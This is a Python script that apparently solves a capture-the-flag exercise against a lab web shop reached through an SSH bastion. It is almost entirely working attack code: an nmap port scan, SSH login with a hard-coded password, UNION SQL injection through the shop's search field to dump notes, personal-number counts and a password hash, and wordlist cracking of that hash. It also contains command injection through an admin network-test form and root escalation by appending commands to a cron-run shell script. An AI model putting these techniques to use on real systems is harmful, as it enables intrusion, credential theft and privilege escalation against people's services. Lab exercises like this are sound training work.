"""Solve one task the way a team does, from the office workstation; the last line printed is the answer.

Usage: evening.py TASK
"""

import html
import http.client
import re
import secrets
import shlex
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from hashlib import sha256
from pathlib import Path
from urllib.parse import quote, urlencode

WORDS = Path("/usr/share/ordlister/norske-passord.txt")
SSH = [
    "ssh",
    "-p",
    "2222",
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "LogLevel=ERROR",
]
DUTY = ["sshpass", "-p", "Garn-noeste-27", *SSH, "vakt@bastion"]


def open_door() -> str:
    scan = run(["nmap", "-sT", "-n", "-p1-10000", "--open", "bastion"])
    return found(r"^(\d+)/tcp +open", scan)


def handover() -> str:
    return run([*DUTY, "cat flagg.txt"]).strip()


def forgotten_copy() -> str:
    with shop() as ask:
        backup = found(r"Disallow: (\S+\.bak)", ask("GET", "/robots.txt"))
        return found(r"NCR\{[^}]+\}", ask("GET", backup))


def customer_list() -> str:
    with shop() as ask:
        return inject(ask, "SELECT tekst, 0, '' FROM notat WHERE emne = 'sporingsmerke'")[0]


def who_must_know() -> str:
    with shop() as ask:
        return inject(ask, "SELECT count(*)::text, 0, '' FROM kunde WHERE fodselsnummer IS NOT NULL")[0]


def cracked() -> str:
    with shop() as ask:
        return crack(ask)


def behind_the_counter() -> str:
    with shop() as ask:
        return shell_in(ask)("cat /home/butikk/flagg.txt").strip()


def packing_job() -> str:
    with shop() as ask:
        return as_root(shell_in(ask), "cat /root/flag.txt").strip()


def vault() -> str:
    with shop() as ask:
        query = "SELECT innhold FROM hvelv.avtale WHERE leverandor = 'sporingsmerke'"
        return as_root(shell_in(ask), f'sporring "{query}"').strip()


@contextmanager
def shop() -> Iterator[Callable[..., str]]:
    """Ask the web shop through a tunnel over the bastion; cookies are kept."""
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    tunnel = subprocess.Popen([*DUTY, "-N", "-L", f"127.0.0.1:{port}:shop:8080"])
    cookies: dict[str, str] = {}

    def ask(method: str, path: str, **form: str) -> str:
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
        headers = {"Content-Type": "application/x-www-form-urlencoded", **cookies}
        connection.request(method, path, urlencode(form) if form else None, headers)
        answer = connection.getresponse()
        if cookie := answer.getheader("Set-Cookie"):
            cookies["Cookie"] = cookie.split(";")[0]
        return answer.read().decode()

    try:
        wait_for(port)
        yield ask
    finally:
        tunnel.terminate()
        tunnel.wait(5)


def wait_for(port: int) -> None:
    """Return when the tunnel listens; TimeoutError after 10 s."""
    for _ in range(200):
        try:
            socket.create_connection(("127.0.0.1", port), 1).close()
            return
        except ConnectionRefusedError:
            time.sleep(0.05)
    raise TimeoutError("no tunnel through the bastion")


def inject(ask: Callable[..., str], select: str) -> list[str]:
    """The first column of a SELECT of three columns, through the shop's search field."""
    page = ask("GET", "/sok?q=" + quote(f"finnes ikke' UNION {select} -- "))
    return [html.unescape(name) for name in re.findall(r'class="navn">([^<]*)<', page)]


def crack(ask: Callable[..., str]) -> str:
    """Ingrid's password, from its hash and the office's word list."""
    wanted = inject(ask, "SELECT passord_sha256, 0, '' FROM ansatt WHERE brukernavn = 'ingrid'")[0]
    words = WORDS.read_text().split()
    return next(word for word in words if sha256(word.encode()).hexdigest() == wanted)


def shell_in(ask: Callable[..., str]) -> Callable[[str], str]:
    """Sign in to the office pages; commands then run through the network test."""
    ask("POST", "/admin/inn", brukernavn="ingrid", passord=crack(ask))

    def shell(command: str) -> str:
        page = ask("POST", "/admin/nettverk", vert=f"localhost >/dev/null; {command}")
        return html.unescape(found(r'(?s)id="svar">(.*?)</pre>', page))

    return shell


def as_root(shell: Callable[[str], str], command: str) -> str:
    """What a command prints when the packing job runs it; the job is put back as it was."""
    job, out = "/srv/butikk/kroker/pakk.sh", f"/tmp/{secrets.token_hex(4)}"
    bait = f"\n{command} > {out}.new 2>&1; mv {out}.new {out}"
    return shell(
        f"cp {job} {out}.old; printf '%b' {shlex.quote(bait)} >> {job};"
        f" for i in $(seq 60); do sleep 0.1; [ -e {out} ] && break; done; cat {out}.old > {job}; cat {out}"
    )


def run(command: list[str]) -> str:
    return subprocess.run(command, capture_output=True, text=True, check=True, timeout=20).stdout


def found(pattern: str, text: str) -> str:
    """The pattern's first group, or all it matched; an error that shows the text when it is not there."""
    match = re.search(pattern, text, re.MULTILINE)
    if match is None:
        raise SystemExit(f"did not find {pattern} in:\n{text[:2000]}")
    return match[match.lastindex or 0]


TASKS = (
    open_door,
    handover,
    forgotten_copy,
    customer_list,
    who_must_know,
    cracked,
    behind_the_counter,
    packing_job,
    vault,
)

if __name__ == "__main__":
    print({task.__name__.replace("_", "-"): task for task in TASKS}[sys.argv[1]]())
